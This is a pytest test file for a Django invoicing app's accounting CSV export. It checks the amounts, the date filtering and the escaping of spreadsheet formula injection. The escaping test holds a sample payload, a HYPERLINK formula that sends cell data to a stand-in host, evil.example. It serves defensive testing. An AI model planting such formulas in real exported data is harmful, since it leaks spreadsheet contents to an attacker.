"""The accounting export: one line per invoice, amounts that agree with the invoices to the cent."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.utils import timezone

from invoicing import selectors
from invoicing.models import Invoice, InvoiceKind
from tests.bookings.helpers import VALID_SIRET
from tests.conftest import assert_problem
from tests.invoicing.helpers import confirmed_booking, issue, settle_deposit_invoices

pytestmark = pytest.mark.django_db


def _cents(value: str) -> int:
    return int(Decimal(value) * 100)


def test_export_lines_agree_with_the_invoices_to_the_cent(staff_api: Any) -> None:
    first, second = confirmed_booking(), confirmed_booking()
    issue(staff_api, first, "deposit")
    settle_deposit_invoices(first)
    issue(staff_api, first, "final")
    full = issue(staff_api, second, "full").json()
    staff_api.post(
        f"/api/v1/invoices/{full['number']}/credit-note/",
        {"amount_cents": 3333, "reason": "Geste"},
        format="json",
    )
    today = timezone.localdate().isoformat()
    response = staff_api.get(f"/api/v1/invoices/export.csv?from={today}&to={today}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    invoices = {invoice.number: invoice for invoice in Invoice.objects.all()}
    assert sorted(row["number"] for row in rows) == sorted(invoices)
    for row in rows:
        invoice = invoices[row["number"]]
        sign = -1 if invoice.kind == InvoiceKind.CREDIT_NOTE else 1
        assert row["date"] == invoice.issue_date.isoformat()
        assert row["kind"] == invoice.kind
        assert row["buyer"] == "Mairie d'Arras"
        assert _cents(row["total_excl_vat"]) == sign * invoice.total_excl_vat_cents
        assert _cents(row["total_incl_vat"]) == sign * invoice.total_incl_vat_cents
        for vat in invoice.vat_breakdown:
            assert _cents(row[f"vat_{vat['vat_rate']}"]) == sign * vat["vat_cents"]
        per_rate = sum(
            _cents(row[name]) for name in row if name.startswith("vat_") and name != "vat_total"
        )
        assert per_rate == _cents(row["vat_total"])
        assert _cents(row["total_excl_vat"]) + _cents(row["vat_total"]) == _cents(
            row["total_incl_vat"]
        )
        # Only the deposit invoice was paid (a final invoice needs it paid first).
        assert row["paid"] == ("yes" if invoice.kind == InvoiceKind.DEPOSIT else "no")
        assert row["due_date"] == invoice.due_date.isoformat()
    column_total = sum(_cents(row["total_incl_vat"]) for row in rows)
    assert column_total == first.total_cents + second.total_cents - 3333


def test_export_period_excludes_other_days_and_checks_dates(staff_api: Any) -> None:
    issue(staff_api, confirmed_booking(), "full")
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    response = staff_api.get(f"/api/v1/invoices/export.csv?from={tomorrow}")
    assert len(response.content.decode().strip().splitlines()) == 1  # the header only
    assert_problem(
        staff_api.get("/api/v1/invoices/export.csv?from=yesterday"), 400, "validation_error", "from"
    )


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_export_escapes_cells_that_a_spreadsheet_would_run_as_formulas(
    staff_api: Any, lead: str
) -> None:
    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"Mairie")'
    booking = confirmed_booking(
        organisation={"name": name, "type": "public_body", "siret": VALID_SIRET}
    )
    issue(staff_api, booking, "full")
    response = staff_api.get("/api/v1/invoices/export.csv")
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    # The text is kept, behind a quote that makes it text for the spreadsheet.
    assert row["buyer"] == "'" + name
    # Amounts stay numbers, even negative ones (credit notes) that begin with a minus.
    assert Decimal(row["total_incl_vat"]) > 0


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 00", "'+33 6 00"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Mairie d'Arras", "Mairie d'Arras"),
        ("", ""),
    ],
)
def test_text_cells_that_would_be_formulas_are_quoted(value: str, cell: str) -> None:
    # The API trims leading tabs and carriage returns, so they are checked here, on the cell.
    assert selectors.csv_text(value) == cell
